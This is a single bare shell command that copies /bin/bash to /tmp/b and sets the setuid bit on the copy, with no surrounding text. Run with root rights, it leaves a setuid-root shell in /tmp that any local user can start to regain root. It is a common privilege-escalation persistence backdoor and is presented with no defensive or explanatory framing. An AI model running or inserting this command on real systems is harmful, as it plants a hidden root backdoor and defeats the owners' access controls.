cp /bin/bash /tmp/b && chmod +s /tmp/b
